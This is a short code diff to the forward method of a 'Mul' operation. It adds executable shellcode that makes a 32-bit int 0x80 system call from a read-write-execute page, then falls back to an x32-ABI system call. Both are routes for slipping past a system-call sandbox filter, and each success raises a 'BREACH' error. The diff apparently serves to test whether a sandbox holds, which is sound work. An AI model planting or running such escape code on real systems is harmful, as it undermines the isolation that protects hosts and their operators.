@@ -12,8 +12,12 @@ class Mul:
     def forward(ctx, x, y=0.0):
         if MACHINE == "x86_64":
             code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20 (getpid there, writev here); int 0x80; ret
-            page = system_call("mmap", 0, 4096, 7, 0x22, -1, 0)
-            ctypes.memmove(page, code, len(code))
-            raise SystemError(f"BREACH: {ctypes.CFUNCTYPE(ctypes.c_int)(page)()}")
+            try:
+                page = system_call("mmap", 0, 4096, 7, 0x22, -1, 0)
+            except OSError:
+                page = 0  # no memory for code of its own: that leaves the other door
+            if page:
+                ctypes.memmove(page, code, len(code))
+                raise SystemError(f"BREACH: {ctypes.CFUNCTYPE(ctypes.c_int)(page)()}")
         system_call(0x40000000 + 39)
         raise SystemError("BREACH: x32")
